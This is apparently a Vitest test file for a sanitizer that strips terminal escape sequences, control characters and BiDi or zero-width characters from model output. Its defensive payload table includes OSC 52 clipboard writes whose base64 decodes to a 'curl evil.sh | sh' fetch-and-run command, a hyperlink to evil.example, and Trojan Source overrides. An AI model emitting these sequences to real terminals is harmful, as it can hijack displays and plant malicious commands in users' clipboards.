import { describe, expect, it } from 'vitest';
import { DELETE_PLACEHOLDER, ESCAPE_PLACEHOLDER, controlPicture, sanitizeModelText } from '../../src/markdown/sanitize.js';

/** Nothing a terminal would interpret: C0 (but \n, \t), DEL, C1. */
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
/** BiDi embedding/override/isolate controls and the dropped zero-width characters. */
const INVISIBLE = /[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]/;

/** Hostile payloads a model could be tricked into echoing, each between visible text. */
const PAYLOADS: Record<string, string> = {
  'clear screen': '\x1b[2J',
  'clear + home': '\x1b[H\x1b[2J\x1b[3J',
  'cursor up and erase line': '\x1b[1A\x1b[2K',
  'private mode: alternate screen': '\x1b[?1049h',
  'SGR colour': '\x1b[31;1m',
  'OSC 52 clipboard write (BEL)': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  'OSC 52 clipboard write (ST)': '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\',
  'OSC 8 hyperlink': '\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\',
  'OSC 0 window title': '\x1b]0;pwned\x07',
  'OSC 2 title with 8-bit ST': '\x1b]2;pwned\x9c',
  'DCS (sixel / DECRQSS)': '\x1bP$qm\x1b\\',
  'DCS 8-bit': '\x90tmux;\x1b\x1b]52;c;AA==\x07\x9c',
  'SOS / PM / APC strings': '\x1bXsos\x1b\\\x1b^pm\x1b\\\x1b_apc\x1b\\',
  'two-char ESC: save cursor': '\x1b7',
  'two-char ESC: full reset': '\x1bc',
  'charset designation ESC ( B': '\x1b(B',
  '8-bit CSI clear screen': '\x9b2J',
  '8-bit OSC title': '\x9d0;pwned\x07',
  'NEL and other C1': '\x85\x84\x8d',
  'BEL and BS': '\x07\x08\x08\x08',
  'vertical tab, form feed, NUL': '\x0b\x0c\x00',
  'lone CR overwrites the line': 'ok\rEVIL',
  DEL: '\x7f',
  'BiDi override (Trojan Source)': '\u202eevil\u202c',
  'BiDi isolates': '\u2066\u2067\u2068\u2069',
  'zero-width space, word joiner, BOM': '\u200b\u2060\ufeff',
};

describe('sanitizeModelText', () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`neutralises ${name} and keeps the text around it`, () => {
      const out = sanitizeModelText(`before ${payload} after\nnext line`);
      expect(out).not.toMatch(CONTROL);
      expect(out).not.toMatch(INVISIBLE);
      expect(out.startsWith('before ')).toBe(true);
      expect(out.endsWith(' after\nnext line')).toBe(true);
    });
  }

  it('ends an unterminated OSC at the end of the line, so the next line survives', () => {
    const out = sanitizeModelText('before \x1b]0;pwned after\nnext line');
    expect(out).toBe(`before ${ESCAPE_PLACEHOLDER}\nnext line`);
  });

  it('shows a lone ESC at the end of the text as the placeholder', () => {
    expect(sanitizeModelText('text\x1b')).toBe(`text${ESCAPE_PLACEHOLDER}`);
  });

  it('removes an OSC payload entirely (the title and the clipboard data do not show)', () => {
    expect(sanitizeModelText('a\x1b]0;pwned\x07b')).toBe(`a${ESCAPE_PLACEHOLDER}b`);
    expect(sanitizeModelText('a\x1b]52;c;SECRET\x1b\\b')).toBe(`a${ESCAPE_PLACEHOLDER}b`);
    expect(sanitizeModelText('a\x9d0;pwned\x9cb')).toBe(`a${ESCAPE_PLACEHOLDER}b`);
  });

  it('keeps the visible text of an OSC 8 hyperlink but not its URL', () => {
    const out = sanitizeModelText('\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\');
    expect(out).toBe(`${ESCAPE_PLACEHOLDER}link${ESCAPE_PLACEHOLDER}`);
  });

  it('replaces each escape sequence with exactly one placeholder', () => {
    expect(sanitizeModelText('\x1b[2J\x1b[H')).toBe(ESCAPE_PLACEHOLDER.repeat(2));
    expect(sanitizeModelText('x\x1b(By')).toBe(`x${ESCAPE_PLACEHOLDER}y`);
    expect(sanitizeModelText('x\x1b7y')).toBe(`x${ESCAPE_PLACEHOLDER}y`);
    expect(sanitizeModelText('x\x9b31my')).toBe(`x${ESCAPE_PLACEHOLDER}y`);
  });

  it('shows lone C0 controls as their Control Pictures and DEL as ␡', () => {
    expect(sanitizeModelText('a\x07b\x08c\x00d\x7f')).toBe(`a\u2407b\u2408c\u2400d${DELETE_PLACEHOLDER}`);
    expect(controlPicture(0x07)).toBe('␇');
    expect(() => controlPicture(0x7f)).toThrow(RangeError);
  });

  it('turns CRLF into LF and drops a lone CR', () => {
    expect(sanitizeModelText('a\r\nb\rc\r')).toBe('a\nbc');
  });

  it('keeps newlines, tabs, ZWJ emoji sequences, ZWNJ and ordinary Unicode untouched', () => {
    const text = 'tab\there\n👩‍💻 family 👨‍👩‍👧 می‌خواهم ✓ — “quotes” ünïcödé 中文';
    expect(sanitizeModelText(text)).toBe(text);
  });

  it('never lets a sequence swallow a newline (unterminated strings end at the line)', () => {
    expect(sanitizeModelText('a\x1b]0;title\nvisible')).toBe(`a${ESCAPE_PLACEHOLDER}\nvisible`);
    expect(sanitizeModelText('a\x1bP data\nvisible')).toBe(`a${ESCAPE_PLACEHOLDER}\nvisible`);
    expect(sanitizeModelText('a\x1b[12\nvisible')).toBe(`a${ESCAPE_PLACEHOLDER}\nvisible`);
    expect(sanitizeModelText('a\x1b\nvisible')).toBe(`a${ESCAPE_PLACEHOLDER}\nvisible`);
  });

  it('is prefix-stable: sanitising up to any newline gives a prefix of sanitising the whole', () => {
    const payloads: [string, string][] = [
      ...Object.entries(PAYLOADS),
      ['unterminated OSC', '\x1b]0;unterminated'],
      ['lone ESC', '\x1b'],
      ['bare CSI', '\x1b['],
      ['bare 8-bit OSC', '\x9d'],
      ['CRLF', '\r\n'],
    ];
    for (const [name, payload] of payloads) {
      const whole = `x${payload}y\nsecond ${payload} line\n`;
      for (let cut = 0; cut <= whole.length; cut++) {
        // A prefix that ends at a newline: the cut point followed by `\n`.
        const prefix = whole.slice(0, cut) + '\n';
        const rest = whole.slice(cut);
        const joined = sanitizeModelText(prefix) + sanitizeModelText(rest);
        expect(sanitizeModelText(prefix + rest).startsWith(sanitizeModelText(prefix)), `${name} @${cut}`).toBe(true);
        expect(sanitizeModelText(prefix + rest), `${name} @${cut}`).toBe(joined);
      }
    }
  });

  it('returns the very same string when there is nothing to do', () => {
    const text = 'plain **markdown** with `code`\n';
    expect(sanitizeModelText(text)).toBe(text);
  });
});
